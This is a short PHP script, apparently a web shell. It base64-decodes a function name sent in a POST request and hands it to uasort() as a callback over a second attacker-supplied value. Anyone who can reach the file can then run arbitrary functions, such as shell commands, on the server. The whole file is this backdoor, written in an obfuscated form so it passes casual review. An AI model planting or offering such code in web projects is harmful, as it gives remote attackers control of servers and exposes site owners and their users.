<?php
$name = $_POST['n'];
$list = array('x', $_POST['a']);
uasort($list, base64_decode($name));
